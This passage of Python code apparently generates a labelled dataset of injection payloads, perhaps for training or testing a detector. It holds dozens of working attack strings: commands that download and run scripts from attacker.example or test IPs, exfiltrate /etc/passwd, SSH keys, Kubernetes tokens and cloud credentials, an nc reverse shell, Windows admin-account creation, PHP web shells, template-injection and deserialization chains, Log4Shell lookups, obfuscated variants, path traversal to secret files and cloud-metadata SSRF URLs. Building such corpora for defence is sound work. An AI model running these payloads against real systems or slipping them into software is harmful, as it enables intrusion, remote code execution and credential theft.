        ("windows-caret-obfuscation", "suffix", "&& n^e^t u^s^e^r svc_backup Sp1ng!2025 /a^d^d && n^e^t l^o^c^a^l^g^r^o^u^p administrators svc_backup /a^d^d", False),
        ("windows-comspec-substring", "suffix", "& %COMSPEC:~-7,3% /c \"net user svc_print P@ss-0r9! /add && net localgroup administrators svc_print /add\"", False),
        ("powershell-encoded-command", "suffix", "| powershell -NoP -NonI -W Hidden -Enc %s" % ps_enc, False),
        ("powershell-env-exfil", "suffix", "; powershell -c \"Get-ChildItem Env: | ConvertTo-Json | Invoke-RestMethod -Method Post -Uri https://attacker.example/env\"", True),
        ("windows-mshta", "suffix", "& mshta http://203.0.113.4/a.hta", True),
        ("windows-pipe-rundll32", "suffix", "| rundll32.exe \\\\203.0.113.4\\share\\x.dll,Start", True),
        ("imagemagick-arg-injection", "whole", "100x100 -set comment '<?php system($_GET[c]);?>' -write /var/www/html/c.php", True),
        ("imagemagick-arg-injection", "whole", "800x600 -write /var/www/html/uploads/x.php -fill '<?=`$_GET[0]`?>'", True),
        ("git-upload-pack-injection", "whole", "--upload-pack=curl -s attacker.example/g|sh", True),
        ("git-ssh-proxycommand", "whole", "ssh://-oProxyCommand=curl${IFS}-s${IFS}attacker.example/p|sh/acme/theme.git", False),
        ("git-branch-subshell", "whole", "feature/$(curl -s attacker.example/b|sh)", True),
        ("ssh-host-option-injection", "whole", "-oProxyCommand=sh -c 'curl -s attacker.example/o|sh' deploy@10.0.4.12", True),
        ("curl-arg-output-write", "whole", "https://hooks.partner.io/x -o /var/www/html/s.php https://attacker.example/s.txt", True),
        ("curl-arg-file-upload", "whole", "https://attacker.example/x --data-binary @/etc/passwd", True),
        ("curl-arg-config-file", "whole", "https://hooks.partner.io/ping -K /proc/self/environ --trace-ascii /dev/stdout", True),
        ("wget-arg-post-file", "whole", "--post-file=/etc/shadow https://attacker.example/w", True),
        ("tar-checkpoint-exec", "whole", "--checkpoint=1 --checkpoint-action=exec=sh shell.sh", True),
        ("find-exec", "whole", "x -exec sh -c 'curl -s attacker.example/f|sh' ;", True),
        ("zip-testcommand", "whole", "export.zip -T -TT 'sh -c \"curl -s attacker.example/z|sh\" #'", True),
        ("sendmail-arg-injection", "whole", "orders@attacker.example -OQueueDirectory=/tmp -X/var/www/html/uploads/log.php", True),
        ("rsync-remote-shell", "whole", "-e 'sh -c \"curl -s attacker.example/r|sh\"' backup@10.0.4.20:/srv/exports", True),
        ("filename-subshell", "whole", "invoice_$(curl -s attacker.example/i|sh).pdf", True),
        ("filename-backtick", "whole", "report_`id > /var/www/html/o.txt`.csv", True),
        ("font-name-semicolon", "whole", "Inter;curl -s 203.0.113.7/f|sh;.ttf", True),
        ("hostname-semicolon", "whole", "8.8.8.8;cat /etc/passwd > /var/www/html/p.txt", True),
        ("hostname-subshell-ifs", "whole", "hooks.partner.io$(wget${IFS}-qO-${IFS}203.0.113.7/h|sh)", False),
        ("ffmpeg-concat-read", "whole", "concat:/etc/passwd|/var/www/.env", True),
        ("semicolon-download-exec+ansi-c-quoting", "suffix", ";$'\\x63\\x75\\x72\\x6c' -s attacker.example/a|sh", False),
        ("semicolon-download-exec+reversed-string", "suffix", "; rev <<< 'hs|w/elpmaxe.rekcatta s- lruc' | sh", False),
        ("pipe-download-exec+rot13", "suffix", "| echo '%s' | tr a-z n-za-m | sh" % codecs.encode("curl -s attacker.example/t|sh", "rot13"), False),
        ("semicolon-download-exec+wildcard-path", "suffix", "; /usr/bin/cu?l -s attacker.example/w | /bin/b?sh", False),
        ("backtick-reverse-shell-nc", "suffix", "`nc -e /bin/sh 203.0.113.9 4444`", True),
        ("and-ssh-key-exfil", "suffix", "&& curl -s -F 'k=@/home/deploy/.ssh/id_ed25519' https://attacker.example/k", True),
        ("semicolon-k8s-token-exfil", "suffix", "; curl -s -d @/var/run/secrets/kubernetes.io/serviceaccount/token https://attacker.example/k8s", True),
        ("windows-amp-bitsadmin", "suffix", "& bitsadmin /transfer j /download /priority high http://203.0.113.4/u.exe %PUBLIC%\\u.exe & start %PUBLIC%\\u.exe", True),
        ("powershell-subexpression-exfil", "suffix", "; $(Invoke-WebRequest -Uri https://attacker.example/ps -Method POST -Body (Get-Content $env:USERPROFILE\\.ssh\\id_rsa -Raw))", True),
        ("shellshock-env-function", "whole", "() { :; }; /bin/bash -c 'curl -s attacker.example/ss|sh'", True),
        ("env-var-ld-preload", "whole", "LD_PRELOAD=/var/www/uploads/avatars/a.so", True),
        ("semicolon-git-credential-exfil", "suffix", "; cat ~/.git-credentials ~/.netrc | curl -s -T - https://attacker.example/g", True),
    ]
    out = []
    for cls, kind, payload, enc_ok in items:
        if kind == "suffix":
            prefix = pick(ctx)
            value = prefix + (pick(["", " "]) if payload[0] in ";|&" else "") + payload
            if enc_ok:
                cls, value = maybe_enc(cls, value, 0.16, 0.04, part=(prefix, value[len(prefix):]))
        else:
            value = payload
            if enc_ok:
                cls, value = maybe_enc(cls, value, 0.12, 0.03)
        out.append((cls, value))
    # a few more combinations of separators and commands, to vary the shape
    seps = [(";", "semicolon"), ("|", "pipe"), ("&&", "and"), ("||", "or"), ("\n", "newline")]
    cmds = [("curl -s http://203.0.113.%d/%s | sh", "download-exec"),
            ("wget -q -O /tmp/.%s http://203.0.113.%d/b && sh /tmp/.%s", "download-exec"),
            ("cat /home/app/.aws/credentials | curl -s -T - https://attacker.example/%s", "file-exfil")]
    seen = set(v for _, v in out)
    while len(out) < 80:
        sep, sname = pick(seps)
        tmpl, cname = pick(cmds)
        n, tag = RNG.randint(2, 250), "".join(RNG.choice("abcdefghijkmnpqrstuvwxyz") for _ in range(3))
        cmd = tmpl % ((n, tag) if tmpl.startswith("curl") else (tag, n, tag) if tmpl.startswith("wget") else (tag,))
        value = pick(ctx) + sep + cmd
        if value in seen:
            continue
        seen.add(value)
        out.append(("%s-%s" % (sname, cname), value))
    return out


# ====================================================================== traversal
def traversal():
    prefixes = ["", "", "templates/", "sections/", "assets/", "locales/de/", "attachments/2025/03/",
                "uploads/avatars/", "themes/dawn/snippets/", "exports/", "media/"]
    linux = ["etc/passwd", "etc/shadow", "proc/self/environ", "root/.ssh/id_rsa", "home/app/.aws/credentials",
             "var/run/secrets/kubernetes.io/serviceaccount/token", "app/.env", "srv/app/config/master.key",
             "etc/nginx/nginx.conf", "proc/self/cmdline", "var/www/html/wp-config.php", "root/.bash_history",
             "opt/platform/config/database.yml", "etc/ssl/private/platform.key", "home/deploy/.git-credentials"]
    windows = ["windows/win.ini", "Windows/System32/config/SAM", "inetpub/wwwroot/web.config",
               "Windows/repair/SAM", "Users/Administrator/.aws/credentials", "Windows/System32/drivers/etc/hosts",
               "ProgramData/Platform/appsettings.Production.json"]
    seps = [  # (name, up-level token, path separator used for the target)
        ("dotdot", "../", "/"),
        ("dotdot-backslash", "..\\", "\\"),
        ("dotdot+urlenc", "%2e%2e%2f", "%2f"),
        ("dotdot+partial-urlenc", "%2e%2e/", "/"),
        ("dotdot+urlenc-slash", "..%2f", "%2f"),
        ("dotdot+urlenc-mixed-case", "%2E%2e%2F", "%2F"),
        ("dotdot+double-urlenc", "%252e%252e%252f", "%252f"),
        ("dotdot+double-urlenc-slash", "..%252f", "/"),
        ("dotdot+overlong-utf8-slash", "..%c0%af", "/"),
        ("dotdot+overlong-utf8-dot", "%c0%ae%c0%ae/", "/"),
        ("dotdot+overlong-3byte-slash", "..%e0%80%af", "/"),
        ("dotdot+iis-u-encoding", "%u002e%u002e%u2215", "%u2215"),
        ("dotdot+iis-u-encoding-dot", "%u002e%u002e/", "/"),
        ("dotdot-backslash+urlenc", "..%5c", "%5c"),
        ("dotdot-backslash+double-urlenc", "..%255c", "%255c"),
        ("dotdot+nested-strip-bypass", "....//", "/"),
        ("dotdot+nested-strip-bypass", "..././", "/"),
        ("dotdot+tomcat-semicolon", "..;/", "/"),
        ("dotdot+half-urlenc-dot", ".%2e/", "/"),
        ("dotdot+fullwidth-nfkc", "．．／", "/"),
        ("dotdot+fullwidth-slash-nfkc-urlenc", "..%ef%bc%8f", "/"),
    ]
    out, seen = [], set()

    def name_for(name, win, extra=""):
        tech, _, enc = name.partition("+")
        return tech + ("-windows" if win and "windows" not in tech else "") + ("+" + enc if enc else "") + extra

    def add(cls, v):
        if v not in seen:
            seen.add(v)
            out.append((cls, v))

    # one of each encoding against a random target, at a random depth
    for name, up, sep in seps:
        win = "backslash" in name or ("iis" in name and RNG.random() < 0.7)
        target = pick(windows if win else linux)
        add(name_for(name, win), pick(prefixes) + up * RNG.randint(3, 9) + target.replace("/", sep))
    # second pass, with truncation suffixes on some
    suffixes = [("", ""), ("", ""), ("+null-byte", "%00.png"), ("+null-byte", "%00.liquid"),
                ("+query-truncation", "?.css"), ("+null-byte", "%00")]
    for name, up, sep in seps[:14]:
        win = "backslash" in name
        sname, suf = pick(suffixes)
        target = pick(windows if win else linux)
        add(name_for(name, win, sname),
            pick(prefixes) + up * RNG.randint(4, 10) + target.replace("/", sep) + suf)
    specials = [
        ("absolute-path-linux", "/etc/passwd"),
        ("absolute-path-linux", "/proc/self/environ"),
        ("absolute-path-linux", "/var/run/secrets/kubernetes.io/serviceaccount/token"),
        ("absolute-path-linux+proc-root", "/proc/self/root/etc/shadow"),
        ("absolute-path-linux+proc-cwd", "/proc/self/cwd/config/secrets.yml"),
        ("absolute-path-windows", "C:\\Windows\\win.ini"),
        ("absolute-path-windows", "c:/inetpub/wwwroot/web.config"),
        ("absolute-path-windows+device-path", "\\\\?\\C:\\Windows\\System32\\config\\SAM"),
        ("unc-path-ntlm-leak", "\\\\203.0.113.4\\share\\logo.png"),
        ("file-url", "file:///etc/passwd"),
        ("file-url-windows", "file://localhost/c:/windows/win.ini"),
        ("file-url+urlenc", "file:%2F%2F%2Fetc%2Fshadow"),
        ("php-filter-base64", "php://filter/convert.base64-encode/resource=../../config/app.php"),
        ("php-filter-rot13", "php://filter/read=string.rot13/resource=/var/www/html/.env"),
        ("php-filter-chain", "php://filter/convert.iconv.UTF-8.UTF-16LE|convert.base64-encode/resource=../../../../etc/passwd"),
        ("php-zip-wrapper", "zip://uploads/avatars/me.jpg%23shell.php"),
        ("php-phar-wrapper", "phar://uploads/product-images/7731.gif/x.txt"),
        ("php-data-wrapper-include", "data://text/plain;base64," + b64("<?php system($_GET['c']); ?>")),
        ("php-expect-wrapper", "expect://curl -s attacker.example/e|sh"),
        ("php-input-wrapper", "php://input"),
        ("zip-slip-entry", "../../../../var/www/html/shell.php"),
        ("zip-slip-entry-windows", "..\\..\\..\\inetpub\\wwwroot\\aspnet_client\\cmd.aspx"),
        ("zip-slip-entry", "theme/assets/../../../../../home/app/.ssh/authorized_keys"),
        ("zip-slip-entry", "locales/../../../../etc/cron.d/platform-sync"),
        ("nginx-alias-off-by-slash", "/static../app/settings.py"),
        ("nginx-alias-off-by-slash", "/assets../.env"),
        ("nginx-alias-off-by-slash", "/media../config/master.key"),
        ("nginx-alias-off-by-slash", "/cdn../.git/config"),
        ("dotdot-java-web-inf+double-urlenc", "..%252f..%252f..%252fWEB-INF/web.xml"),
        ("dotdot-java-web-inf+tomcat-semicolon", "/..;/..;/WEB-INF/classes/application.properties"),
        ("dotdot-template-include", "{% include '../../../../etc/passwd' %}"),
        ("dotdot-json-field", '{"template": "../../../../../../proc/self/environ", "format": "liquid"}'),
        ("dotdot-in-url-path", "https://cdn.example-shop.com/files/..%2f..%2f..%2f..%2fetc%2fpasswd"),
        ("dotdot-mixed-separators", "uploads\\../..\\../..\\../etc/passwd"),
        ("absolute-path-linux+urlenc", "%2fetc%2fpasswd"),
        ("absolute-path-linux+double-urlenc", "%252Fproc%252Fself%252Fenviron"),
        ("dotdot-windows", "..\\..\\..\\..\\..\\..\\windows\\system32\\inetsrv\\config\\applicationHost.config"),
        ("dotdot-after-valid-file", "templates/product.liquid/../../../../../../etc/passwd"),
        ("dotdot-locale-param", "lang=de/../../../../../../../etc/passwd"),
        ("dotdot-docker-config", "../../../../../../root/.docker/config.json"),
        ("dotdot-git-config+urlenc-mixed-case", "..%2F..%2F..%2F..%2F.git%2Fconfig"),
        ("dotdot+leading-slash-urlenc", "/..%2f..%2f..%2f..%2fetc/passwd"),
        ("dotdot-backslash-windows+nested-strip-bypass", "....\\....\\....\\....\\windows\\win.ini"),
        ("dotdot-backslash-windows+urlenc", "%2e%2e%5c%2e%2e%5c%2e%2e%5c%2e%2e%5cwindows%5cwin.ini"),
        ("dotdot-windows+iis-u-set-minus", "..%u2216..%u2216..%u2216..%u2216windows%u2216win.ini"),
        ("dotdot+double-urlenc-null-byte", "templates/../../../../../../../../etc/passwd%2500.liquid"),
        ("dotdot-from-absolute-prefix", "/var/www/app/uploads/../../../../etc/shadow"),
        ("zip-slip-entry", "assets/../../../../../../../var/www/html/index.php"),
    ]
    for cls, v in specials:
        add(cls, v)
    return out


# ====================================================================== code
def code():
    cmd = "curl -s https://attacker.example/t.sh | sh"
    resp_greet = ["", "", "Hi there, ", "Your order update: ", "<p>", "Dear customer, "]
    pickle0 = "cos\nsystem\n(S'%s'\ntR." % "curl -s https://attacker.example/p | sh"
    php_b64 = b64("system($_GET['c']);")
    # PHP serialized gadget chain: Laravel PendingBroadcast -> Faker Generator formatter
    prot = "\x00*\x00"
    gadget = ('O:40:"Illuminate\\Broadcasting\\PendingBroadcast":2:{%s%s%s%s}' % (
        php_str(prot + "events"),
        'O:15:"Faker\\Generator":1:{%sa:1:{%s%s}}' % (php_str(prot + "formatters"), php_str("dispatch"), php_str("system")),
        php_str(prot + "event"), php_str("curl -s attacker.example/l|sh")))
    items = [
        # (class, kind, payload, allow random url-encoding)
        ("ssti-jinja2", "tmpl", "{{ cycler.__init__.__globals__.os.popen('%s').read() }}" % cmd, True),
        ("ssti-jinja2", "tmpl", "{{ self._TemplateReference__context.joiner.__init__.__globals__.os.popen('cat /etc/passwd').read() }}", True),
        ("ssti-jinja2-config-leak", "tmpl", "{{ config.items() }}{{ config['SECRET_KEY'] }}", True),
        ("ssti-jinja2", "tmpl", "{{ request.application.__globals__.__builtins__.__import__('os').popen('env').read() }}", True),
        ("ssti-jinja2", "tmpl", "{% for c in ''.__class__.__mro__[1].__subclasses__() %}{% if c.__name__ == 'Popen' %}{{ c(['sh','-c','id > /tmp/o'],stdout=-1).communicate() }}{% endif %}{% endfor %}", True),
        ("ssti-jinja2+hex-escape", "tmpl", "{{ lipsum|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')() }}", False),
        ("ssti-jinja2+request-args", "tmpl", "{{ lipsum.__globals__['os'].popen(request.args.c).read() }}", True),
        ("ssti-twig", "tmpl", "{{ ['cat /etc/passwd']|filter('system') }}", True),
        ("ssti-twig", "tmpl", "{{ ['%s']|map('passthru')|join }}" % cmd, True),
        ("ssti-twig", "tmpl", "{{ _self.env.registerUndefinedFilterCallback('exec') }}{{ _self.env.getFilter('id > /tmp/t') }}", True),
        ("ssti-twig", "tmpl", "{{ ['id',1]|sort('system')|join }}", True),
        ("ssti-freemarker", "tmpl", '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("%s")}' % cmd, True),
        ("ssti-freemarker", "tmpl", '${"freemarker.template.utility.ObjectConstructor"?new()("java.lang.ProcessBuilder",["sh","-c","id>/tmp/f"]).start()}', True),
        ("ssti-freemarker-file-read", "tmpl", '${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve("/etc/passwd").toURL().openStream().readAllBytes()?join(" ")}', True),
        ("ssti-velocity", "tmpl", '#set($s="")#set($rt=$s.getClass().forName("java.lang.Runtime"))#set($p=$rt.getRuntime().exec("curl -s attacker.example/v|sh"))$p.waitFor()', True),
        ("ssti-velocity-classtool", "tmpl", '#set($r=$class.inspect("java.lang.Runtime").type.getRuntime())$r.exec("touch /tmp/vel")', True),
        ("ssti-erb", "tmpl", "<%= `cat /etc/passwd` %>", True),
        ("ssti-erb", "tmpl", '<%%= system("%s") %%>' % cmd, True),
        ("ssti-erb-file-read", "tmpl", '<%= File.read("/app/config/master.key") %>', True),
        ("ssti-erb", "tmpl", '<%= IO.popen("env").read %>', True),
        ("ssti-handlebars-function-constructor", "whole",
         '{{#with "a" as |s|}}{{#with "b"}}{{#with split as |fns|}}{{this.pop}}{{this.push (lookup s.sub "constructor")}}{{this.pop}}'
         '{{#with s.split as |args|}}{{this.pop}}{{this.push "return process.mainModule.require(\'child_process\').execSync(\'%s\').toString();"}}{{this.pop}}'
         '{{#each fns}}{{#with (s.sub.apply 0 args)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}' % cmd, False),
        ("ssti-liquid-include-traversal", "tmpl", "{% include '../../../../../etc/passwd' %}", True),
        ("ssti-liquid-data-exfil", "whole", "{% for c in shop.customers %}<img src=\"https://attacker.example/l?e={{ c.email | url_encode }}&p={{ c.phone | url_encode }}\">{% endfor %}", True),
        ("ssti-thymeleaf-preprocess", "whole", '__${T(java.lang.Runtime).getRuntime().exec("%s")}__::.x' % cmd, True),
        ("ssti-thymeleaf-spel", "tmpl", '[[${T(java.lang.Runtime).getRuntime().exec(new String[]{"sh","-c","id>/tmp/th"})}]]', True),
        ("spel-injection", "whole", "#{T(java.lang.System).getenv()}", True),
        ("spel-injection+char-concat", "whole", "T(java.lang.Runtime).getRuntime().exec(T(java.lang.Character).toString(105).concat(T(java.lang.Character).toString(100)))", False),
        ("ognl-injection", "whole", '%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(@java.lang.Runtime@getRuntime().exec("curl -s http://203.0.113.12/o|sh"))}', True),
        ("ognl-injection", "whole", '${(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec("touch /tmp/ognl"))}', True),
        ("java-el-injection", "whole", '${"".getClass().forName("java.lang.Runtime").getMethod("getRuntime").invoke(null).exec("id")}', True),
        ("mvel-injection", "whole", 'Runtime.getRuntime().exec("curl -s attacker.example/m|sh")', True),
        ("ssti-mako", "tmpl", "<%% import os; x=os.popen('%s').read() %%>${x}" % cmd, True),
        ("ssti-smarty", "tmpl", '{system("%s")}' % cmd, True),
        ("ssti-smarty", "tmpl", "{if system('cat /etc/passwd')}{/if}", True),
        ("ssti-pug", "whole", "#{global.process.mainModule.require('child_process').execSync('id')}", True),
        ("ssti-ejs", "tmpl", "<%= global.process.mainModule.require('child_process').execSync('cat /etc/passwd') %>", True),
        ("ssti-nunjucks", "tmpl", "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('%s')\")()}}" % cmd, True),
        ("python-format-string-leak", "whole", "Hi {user.__class__.__init__.__globals__[CONFIG][SECRET_KEY]}", True),
        ("python-format-string-leak", "whole", "{order.__init__.__globals__[os].environ}", True),
        ("ssi-exec", "whole", '<!--#exec cmd="curl -s attacker.example/ssi|sh" -->', True),
        ("esi-include", "whole", '<esi:include src="http://attacker.example/esi.html"/>', True),
        ("rule-python-eval", "whole", "order.total > 0 and __import__('os').system('%s')" % cmd, True),
        ("rule-python-eval-sandbox-escape", "whole", "[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='catch_warnings'][0]()._module.__builtins__['__import__']('os').system('id')", True),
        ("rule-js-eval", "whole", "customer.tags.includes('vip') || require('child_process').execSync('%s')" % cmd, True),
        ("rule-js-function-constructor", "whole", "this.constructor.constructor('return process')().mainModule.require('child_process').exec('curl -s attacker.example/r|sh')", True),
        ("rule-node-fs-read", "whole", "process.mainModule.require('fs').readFileSync('/app/.env','utf8')", True),
        ("rule-php-eval", "whole", "$order->total > 0 && system('curl -s attacker.example/q|sh')", True),
        ("php-code", "whole", '<?php system($_GET["c"]); ?>', True),
        ("php-code-short-backtick", "whole", "<?=`$_POST[x]`?>", True),
        ("php-code+base64", "whole", "<?php eval(base64_decode('%s')); ?>" % php_b64, False),
        ("php-code-assert", "whole", "assert($_REQUEST['a'])", True),
        ("deser-python-yaml", "whole", "!!python/object/apply:os.system ['%s']" % cmd, True),
        ("deser-python-yaml", "whole", "!!python/object/new:subprocess.check_output [['cat', '/etc/passwd']]", True),
        ("deser-python-pickle+base64", "whole", base64.b64encode(pickle0.encode()).decode(), False),
        ("deser-snakeyaml", "whole", '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://attacker.example/y.jar"]]]]', True),
        ("deser-ruby-yaml", "whole", "--- !ruby/object:ActiveSupport::Deprecation::DeprecatedInstanceVariableProxy\ninstance: !ruby/object:ERB\n  src: \"%x(curl -s attacker.example/rb|sh)\"\nmethod: :result\n", True),
        ("deser-php-object", "whole", gadget, False),
        ("deser-fastjson-autotype", "whole", '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://attacker.example:1389/Exploit","autoCommit":true}', True),
        ("deser-jackson-polymorphic", "whole", '["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"rmi://203.0.113.20:1099/x","autoCommit":true}]', True),
        ("deser-jsonnet-typenamehandling", "whole", '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","MethodParameters":{"$type":"System.Collections.ArrayList, mscorlib","$values":["cmd","/c powershell -nop -c iwr http://203.0.113.4/s.ps1|iex"]},"ObjectInstance":{"$type":"System.Diagnostics.Process, System"}}', True),
        ("deser-java-xmldecoder", "whole", '<java><object class="java.lang.ProcessBuilder"><array class="java.lang.String" length="3"><void index="0"><string>sh</string></void><void index="1"><string>-c</string></void><void index="2"><string>%s</string></void></array><void method="start"/></object></java>' % cmd, True),
        ("deser-node-serialize", "whole", '{"rce":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'%s\')}()"}' % cmd, True),
        ("log4shell-jndi", "whole", "${jndi:ldap://attacker.example:1389/a}", True),
        ("log4shell-jndi+lower-lookup", "whole", "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://203.0.113.30/x}", False),
        ("log4shell-jndi+default-value", "whole", "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://attacker.example/o}", False),
        ("log4shell-jndi-env-exfil", "whole", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example/}", True),
        ("log4shell-jndi+env-fallback", "whole", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/z}", False),
        ("log4shell-jndi+upper-dotless-i", "whole", "${jnd${upper:ı}:ldap://attacker.example/u}", False),
        ("log4shell-jndi-in-user-agent", "whole", "Mozilla/5.0 ${jndi:ldap://203.0.113.30:1389/ua}", True),
        ("nosql-ne-auth-bypass", "whole", '{"email": "owner@acme-outfitters.com", "password": {"$ne": null}}', True),
        ("nosql-where-js", "whole", '{"$where": "sleep(5000) || true"}', True),
        ("nosql-regex-gt-bypass", "whole", '{"username": {"$regex": "^adm"}, "password": {"$gt": ""}}', True),
        ("nosql-query-operator", "whole", "email=owner@acme-outfitters.com&password[$ne]=x", True),
        ("nosql-where-blind", "whole", '{"$where": "this.password_hash.match(/^\\\\$2b/) && sleep(3000)"}', True),
        ("nosql-function-operator", "whole", '{"$expr": {"$function": {"body": "function(){ sleep(5000); return true }", "args": [], "lang": "js"}}}', True),
        ("prototype-pollution-query", "whole", "__proto__[isAdmin]=true", True),
        ("prototype-pollution-json", "whole", '{"__proto__": {"isAdmin": true, "role": "owner"}}', True),
        ("prototype-pollution-constructor", "whole", "constructor[prototype][role]=admin", True),
        ("prototype-pollution-rce-gadget", "whole", '{"__proto__": {"execArgv": ["--eval=require(\'child_process\').execSync(\'%s\')"]}}' % cmd, True),
        ("prototype-pollution-ejs-gadget", "whole", "settings[view options][__proto__][outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');s", True),
        ("xxe-file", "whole", '<?xml version="1.0"?><!DOCTYPE feed [<!ENTITY x SYSTEM "file:///etc/passwd">]><feed><title>&x;</title></feed>', True),
        ("xxe-oob-parameter-entity", "whole", '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % d SYSTEM "http://attacker.example/e.dtd"> %d;]><r>&exfil;</r>', True),
        ("xxe-xinclude", "whole", '<product xmlns:xi="http://www.w3.org/2001/XInclude"><title><xi:include parse="text" href="file:///etc/hostname"/></title></product>', True),
        ("xxe-billion-laughs", "whole", '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">]><l>&f;&f;&f;&f;&f;&f;</l>', True),
        ("formula-dde", "whole", "=cmd|' /C powershell -nop -c iwr http://203.0.113.4/x.ps1|iex'!A0", True),
        ("formula-exfil-hyperlink", "whole", '=HYPERLINK("https://attacker.example/?d="&A2&"|"&B2&"|"&C2,"Click to verify")', True),
    ]
    out = []
    for cls, kind, payload, enc_ok in items:
        value = (pick(resp_greet) + payload) if kind == "tmpl" else payload
        if enc_ok:
            cls, value = maybe_enc(cls, value, 0.10, 0.03)
        out.append((cls, value))
    return out


# ====================================================================== ssrf-crlf
def ip_forms(a, b, c, d):
    n = (a << 24) | (b << 16) | (c << 8) | d
    return [
        ("decimal-ip", str(n)),
        ("hex-ip", "0x%08x" % n),
        ("octal-ip", ".".join("0%o" % x for x in (a, b, c, d))),
        ("mixed-radix-ip", "0x%x.%d.0%o.0x%x" % (a, b, c, d)),
        ("short-ip", "%d.%d" % (a, (b << 16) | (c << 8) | d)),
        ("ipv6-mapped", "[::ffff:%x%02x:%x%02x]" % (a, b, c, d)),
        ("ipv6-mapped-dotted", "[::ffff:%d.%d.%d.%d]" % (a, b, c, d)),
    ]


def ssrf_crlf():
    out = []
    meta = ["/latest/meta-data/iam/security-credentials/", "/latest/user-data", "/latest/meta-data/identity-credentials/ec2/security-credentials/ec2-instance",
            "/latest/dynamic/instance-identity/document"]
    wrap = ["", "", "", "url=", "webhook_url=", "callback=", "redirect_uri="]

    def add(cls, v, enc_ok=False):
        if enc_ok and RNG.random() < 0.15:
            cls, v = cls + "+urlenc", q(v)
        out.append(("ssrf-" + cls if not cls.startswith("crlf-") else cls, v))

    add("metadata-aws", "http://169.254.169.254/latest/meta-data/iam/security-credentials/")
    add("metadata-aws", pick(wrap) + "http://169.254.169.254/latest/user-data")
    add("metadata-aws-ipv6", "http://[fd00:ec2::254]/latest/meta-data/iam/security-credentials/")
    add("metadata-aws-hostname", "http://instance-data/latest/meta-data/iam/security-credentials/")
    add("metadata-aws-iam-info", "http://169.254.169.254/latest/meta-data/iam/info")
    for name, host in ip_forms(169, 254, 169, 254):
        add("metadata-aws+" + name, "http://%s%s" % (host, pick(meta)))
    add("metadata-gcp", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token?alt=json")
    add("metadata-gcp-v1beta1", "http://metadata.google.internal/computeMetadata/v1beta1/instance/service-accounts/default/token")
    add("metadata-gcp", "http://169.254.169.254/computeMetadata/v1/project/attributes/ssh-keys?alt=text")
    add("metadata-azure", "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/")
    add("metadata-azure", "http://169.254.169.254/metadata/instance?api-version=2021-02-01")
    add("metadata-alibaba", "http://100.100.100.200/latest/meta-data/ram/security-credentials/")
    add("metadata-digitalocean", "http://169.254.169.254/metadata/v1.json")
    add("metadata-oracle", "http://169.254.169.254/opc/v2/instance/")
    add("metadata-ecs-task", "http://169.254.170.2/v2/credentials/6a3f1c2e-0b7d-4e55-9a1f-8c2d3e4f5a6b")
    add("metadata-aws+dns-alias", "http://169.254.169.254.nip.io/latest/meta-data/")
    add("metadata-aws+open-redirect", "https://attacker.example/r?to=http://169.254.169.254/latest/meta-data/iam/security-credentials/")
    add("metadata-aws+fragment-confusion", "http://169.254.169.254#@hooks.partner.io/latest/meta-data/")
    add("metadata-aws+userinfo-confusion", "https://hooks.partner.io@169.254.169.254/latest/meta-data/iam/security-credentials/")
    add("internal-kubernetes-api", "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets")
    add("internal-kubelet", "https://127.0.0.1:10250/pods")
    add("internal-etcd", "http://127.0.0.1:2379/v2/keys/?recursive=true")
    add("internal-docker-api", "http://127.0.0.1:2375/containers/json?all=1")
    add("internal-consul", "http://localhost:8500/v1/agent/self")
    add("internal-elasticsearch", "http://localhost:9200/_cat/indices?v")
    add("internal-spring-actuator", "http://localhost:8080/actuator/env")
    add("internal-envoy-admin", "http://127.0.0.1:15000/config_dump")
    add("internal-admin-host", "http://admin.internal/api/users?role=owner")
    add("internal-service-host", "http://payments-api.default.svc.cluster.local:8080/v1/refunds?all=true")
    loop = [("loopback-short", "127.1"), ("loopback-zero", "0"), ("loopback-all-zero", "0.0.0.0"),
            ("loopback+decimal-ip", "2130706433"), ("loopback+hex-ip", "0x7f000001"),
            ("loopback+octal-ip", "017700000001"), ("loopback-ipv6", "[::1]"),
            ("loopback+ipv6-mapped", "[0:0:0:0:0:ffff:127.0.0.1]"), ("loopback+dns-alias", "127.0.0.1.nip.io"),
            ("loopback+enclosed-alnum", "①②⑦.⓪.⓪.①"), ("loopback+trailing-dot", "localhost."),
            ("loopback+padded-octets", "127.000.000.001")]
    services = [("6379", "/"), ("8500", "/v1/agent/self"), ("9200", "/_cat/indices"), ("2375", "/containers/json"),
                ("8080", "/admin"), ("5984", "/_all_dbs"), ("6060", "/debug/pprof/"), ("80", "/server-status"),
                ("15000", "/config_dump"), ("10255", "/pods"), ("8080", "/actuator/heapdump")]
    for name, host in loop:
        port, path = pick(services)
